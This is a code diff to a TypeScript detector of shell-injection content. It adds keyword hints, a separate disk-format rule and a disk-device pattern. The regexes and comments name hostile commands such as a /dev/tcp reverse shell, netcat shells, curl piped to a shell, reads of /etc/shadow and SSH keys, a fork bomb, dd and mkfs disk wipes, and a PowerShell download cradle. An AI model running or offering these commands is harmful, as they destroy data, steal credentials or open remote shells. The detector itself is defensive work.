@@ -6,11 +6,12 @@ import { lineAround, type PayloadRule } from './payload-rule.js';
 const RECURSIVE_FLAG = /(?:^|\s)-[a-zA-Z]{0,8}[rR]|--recursive/;
 const ROOT_TARGET = /^(?:\/\*?|~\/?|\*|\$HOME\/?|\/(?:etc|usr|var|home|boot|bin|lib|opt|root|sys)\/?)$/;
 const DOWNLOADER = /\b(?:curl|wget)\b/;
+const DISK_DEVICE = /\/dev\/(?:sd|nvme|hd|xvd|mmcblk)/;
 const SHELL_LISTENER =
   /\s-[a-zA-Z]{0,6}[ec]\s{1,4}(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da|k)?sh\b|\bexec:|\bsh\s{1,4}-i\b/;
 const DOWNLOAD_CRADLE =
   /downloadstring|downloadfile|net\.webclient|invoke-webrequest|\biwr\b|frombase64string|start-bitstransfer/i;
-const ENCODED_COMMAND = /\s-(?:e|ec|enc|encodedcommand)\s{1,4}[A-Za-z0-9+/=]{20,}/i;
+const ENCODED_COMMAND = /\s-e(?:c|nc|ncodedcommand)?\s{1,4}[A-Za-z0-9+/=]{20}/i;
 const BACKTICK_CONTEXT = /(?:[=("']|\b(?:echo|eval|export|exec|sh|bash|-c))\s{0,2}$/;
 const RAW_ADDRESS = /https?:\/\/\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}|\bhttp:\/\//i;
 
@@ -23,6 +24,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     // read by hand: a regex over repeated flags would backtrack.
     pattern: /\brm\s/,
     score: 0.95,
+    hints: ['rm'],
     confirm: ({ text, end }) => {
       const lineEnd = text.indexOf('\n', end);
       const rest = text.slice(end, Math.min(lineEnd === -1 ? text.length : lineEnd, end + 200));
@@ -45,6 +47,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     // the download command is looked up earlier on the same line.
     pattern: /\|\s{0,4}(?:sudo\s{1,4})?(?:(?:ba|z|da|k|fi)?sh|python[0-9.]{0,4}|perl|ruby|node)\b/,
     score: 0.8,
+    hints: ['|'],
     confirm: ({ text, start }) => {
       const { line, lineStart } = lineAround(text, start);
       const before = line.slice(0, start - lineStart);
@@ -58,6 +61,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     type: 'SHELL_INJECTION',
     pattern: /\b(?:ba|z)?sh\s{1,4}<\(\s{0,4}(?:curl|wget)\b/,
     score: 0.8,
+    hints: ['<('],
   },
   {
     id: 'output.shell-reverse-shell-dev-tcp',
@@ -65,6 +69,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     // `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1`.
     pattern: /\/dev\/(?:tcp|udp)\/[\w.-]{1,253}\/\d{1,5}/,
     score: 0.97,
+    hints: ['/dev/'],
   },
   {
     id: 'output.shell-reverse-shell-netcat',
@@ -72,6 +77,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     // `nc -e /bin/sh 10.0.0.1 4444`, `ncat … -c bash`, `socat … exec:`, `mkfifo … | nc`.
     pattern: /\b(?:nc|ncat|netcat|socat)\s/,
     score: 0.9,
+    hints: ['nc', 'socat'],
     confirm: ({ text, start }) => {
       const { line } = lineAround(text, start);
       if (
@@ -88,6 +94,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     type: 'SHELL_INJECTION',
     pattern: /socket\.socket\s{0,2}\(/,
     score: 0.9,
+    hints: ['socket.socket'],
     confirm: ({ text, end }) => {
       const after = text.slice(end, end + 400);
       return /\bconnect\s{0,2}\(/.test(after) && /dup2|pty\.spawn|subprocess|\/bin\/(?:ba)?sh/.test(after)
@@ -102,6 +109,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     pattern:
       /(?:\$\(|`)\s{0,4}(?:curl\s|wget\s|nc\s|ncat\s|netcat\s|rm\s{1,4}-[a-zA-Z]{0,4}[rf]|cat\s{1,4}\/etc\/(?:passwd|shadow)|bash\s{1,4}-i|python[0-9.]{0,4}\s{1,4}-c|base64\s{1,4}-d)/,
     score: 0.8,
+    hints: ['$(', '`'],
     // Backticks are also Markdown inline code (`rm -rf build`): they count only inside a command, after
     // `=`, `(`, a quote or a command word.
     confirm: ({ text, start }) => {
@@ -115,6 +123,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     type: 'SHELL_INJECTION',
     pattern: /\$\(\s{0,4}(?:whoami|id|uname\s{1,4}-a|hostname|env|printenv)\s{0,4}\)/,
     score: 0.5,
+    hints: ['$('],
   },
   {
     id: 'output.shell-chained-sensitive-read',
@@ -123,12 +132,14 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     pattern:
       /(?:;|&&|\|\||\|)\s{0,4}(?:cat|less|more|head|tail)\s{1,4}(?:\/etc\/(?:passwd|shadow|sudoers)|~\/\.ssh\/id_\w{2,10}|~\/\.aws\/credentials)/,
     score: 0.85,
+    hints: ['/etc/', '~/.ssh', '~/.aws'],
   },
   {
     id: 'output.shell-world-writable',
     type: 'SHELL_INJECTION',
     pattern: /\bchmod\s{1,4}(?:-R\s{1,4})?0?777\b|\bchmod\s{1,4}(?:[ugoa]{0,3}\+s|[246][0-7]{3})\b/,
     score: 0.55,
+    hints: ['chmod'],
     confirm: ({ text, end }) =>
       /^\s{1,4}\/(?:\s|$|etc|usr|bin)/.test(text.slice(end, end + 12)) ? 0.85 : 0.55,
   },
@@ -137,13 +148,26 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     type: 'SHELL_INJECTION',
     pattern: /:\s{0,2}\(\s{0,2}\)\s{0,4}\{\s{0,4}:\s{0,4}\|\s{0,4}:\s{0,4}&\s{0,4}\}\s{0,4};\s{0,4}:/,
     score: 0.95,
+    hints: [':|:', ': |'],
   },
   {
     id: 'output.shell-disk-wipe',
     type: 'SHELL_INJECTION',
+    // `dd if=/dev/zero of=/dev/sda`, `> /dev/sda`.
     pattern:
-      /\bdd\s{1,4}if=\/dev\/(?:zero|random|urandom)\s{1,4}of=\/dev\/(?:sd|nvme|hd|xvd|disk|mmcblk)|\bmkfs(?:\.[a-z0-9]{2,8})?\s{1,4}(?:-[a-zA-Z]{1,10}\s{1,4}){0,3}\/dev\/(?:sd|nvme|hd|xvd)|>\s{0,2}\/dev\/(?:sd[a-z]|nvme\d)/,
+      /\bdd\s{1,4}if=\/dev\/(?:zero|random|urandom)\s{1,4}of=\/dev\/(?:sd|nvme|hd|xvd|disk|mmcblk)|>\s{0,2}\/dev\/(?:sd[a-z]|nvme\d)/,
     score: 0.95,
+    hints: ['/dev/'],
+  },
+  {
+    id: 'output.shell-format-disk',
+    type: 'SHELL_INJECTION',
+    // `mkfs.ext4 /dev/sda1`, `mkfs -t xfs -f /dev/nvme0n1`.
+    pattern: /\bmkfs(?:\.[a-z0-9]{2,8})?\s/,
+    score: 0.9,
+    hints: ['mkfs'],
+    confirm: ({ text, end }) =>
+      DISK_DEVICE.test(text.slice(end, end + 80).split('\n')[0] ?? '') ? 0.9 : undefined,
   },
   {
     id: 'output.powershell-download-cradle',
@@ -151,6 +175,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     // `IEX (New-Object Net.WebClient).DownloadString('http://…')`, `iwr … | iex`.
     pattern: /\b(?:iex|invoke-expression)\b/,
     score: 0.9,
+    hints: ['iex', 'invoke-expression'],
     confirm: ({ text, start }) => (DOWNLOAD_CRADLE.test(lineAround(text, start).line) ? 0.92 : undefined),
   },
   {
@@ -158,6 +183,7 @@ export const SHELL_INJECTION_RULES: readonly PayloadRule[] = [
     type: 'SHELL_INJECTION',
     pattern: /\bpowershell(?:\.exe)?\s/,
     score: 0.85,
+    hints: ['powershell'],
     confirm: ({ text, start }) => (ENCODED_COMMAND.test(lineAround(text, start).line) ? 0.85 : undefined),
   },
 ];
@@ -168,6 +194,7 @@ export const SHELL_PATTERNS: readonly RegExp[] = [
   RECURSIVE_FLAG,
   ROOT_TARGET,
   DOWNLOADER,
+  DISK_DEVICE,
   SHELL_LISTENER,
   DOWNLOAD_CRADLE,
   ENCODED_COMMAND,
